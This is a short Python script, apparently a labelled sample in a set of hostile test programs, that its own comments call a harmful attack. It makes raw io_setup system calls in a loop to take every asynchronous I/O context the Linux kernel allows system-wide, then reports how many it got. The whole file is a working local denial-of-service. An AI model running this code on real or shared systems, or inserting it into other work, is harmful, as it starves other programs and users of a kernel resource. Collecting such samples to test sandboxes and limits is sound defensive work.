# attack: all contexts for asynchronous input and output that the machine has are taken
# harmless: no
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
SETUP = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
made = 0
for events in (50_000, 10_000, 1_000, 100, 1):
    for _ in range(100):
        context = ctypes.c_ulong(0)
        if libc.syscall(SETUP, events, ctypes.byref(context)) == 0:
            made += events
print(made, os.strerror(ctypes.get_errno()), open("/proc/sys/fs/aio-nr").read(), flush=True)
